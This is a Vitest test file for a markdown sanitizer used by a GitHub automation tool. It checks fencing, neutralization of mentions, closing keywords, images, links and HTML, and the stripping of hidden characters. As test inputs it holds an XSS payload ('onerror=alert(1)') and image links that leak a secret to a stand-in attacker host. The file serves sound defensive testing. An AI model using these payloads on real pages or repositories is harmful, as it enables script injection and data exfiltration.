/** INJ-04/05, PI-02: untrusted text cannot break out of fences, ping people, close issues or load images. */
import { describe, expect, it } from "vitest";
import { capBody, codeSpan, fence, neutralizeMarkdown, stripHidden } from "../../src/github/markdown.js";

describe("markdown safety", () => {
  it("fences with more backticks than any run inside (INJ-05)", () => {
    const hostile =
      "ok\n" +
      "`".repeat(20) +
      "\n</details><img src=x onerror=alert(1)>\n```\n![x](https://attacker.example/?d=SECRET)";
    const block = fence(hostile);
    const lines = block.split("\n");
    expect(lines[0]).toBe("`".repeat(21) + "text");
    expect(lines[lines.length - 1]).toBe("`".repeat(21));
    // The only line made only of 21+ backticks is the closing one.
    expect(lines.slice(1, -1).some((l) => /^`{21,}$/.test(l))).toBe(false);
  });

  it("code spans hold backticks, mentions and references inertly", () => {
    expect(codeSpan("a `b` @org/team Fixes #1")).toBe("`` a `b` @org/team Fixes #1 ``");
  });

  it("neutralises closing keywords, mentions, images, off-site links and HTML (INJ-04, PI-05)", () => {
    const out = neutralizeMarkdown(
      [
        "Closes #1 and fixes org/repo#2; resolved: #3",
        "cc @org/everyone and @dependabot merge",
        "![x](https://attacker.example/x?k=secret)",
        "[docs](https://attacker.example/a) [file](https://github.com/o/r/blob/main/a.ts)",
        "<img src=x onerror=alert(1)> <!-- hidden -->",
        "```",
        "@inside Fixes #9",
        "```",
      ].join("\n"),
      { repository: "o/r" },
    );
    const prose = out.split(/```+text[\s\S]*?```+/).join("\n");
    expect(prose).not.toMatch(/(close[sd]?|fix(e[sd])?|resolve[sd]?):?\s+(\w+\/\w+)?#\d/i);
    expect(prose).not.toMatch(/(^|[^`\w])@\w/);
    expect(prose).not.toMatch(/!\[/);
    expect(prose).not.toContain("<img");
    expect(prose).not.toContain("<!--");
    expect(prose).not.toContain("](https://attacker.example");
    expect(prose).toContain("[file](https://github.com/o/r/blob/main/a.ts)");
    expect(out).toContain("@inside Fixes #9");
  });

  it("strips zero-width, bidi, tag characters and control sequences (PI-02, LOG-03)", () => {
    const text = "a\u200bb\u202ec\u2066d\u{e0041}e\x1b[31mf\x1b[0m\x9bg\x07";
    expect(stripHidden(text)).toBe("abcdefg");
  });

  it("keeps bodies under GitHub's limit without leaving a fence open (API-07)", () => {
    const body = "head\n" + fence("x\n".repeat(50_000)) + "\ntail";
    const capped = capBody(body);
    expect(capped.length).toBeLessThanOrEqual(65_000);
    expect((capped.match(/^`{3,}/gm) ?? []).length % 2).toBe(0);
    expect(capped).toContain("truncated by autodev");
  });
});
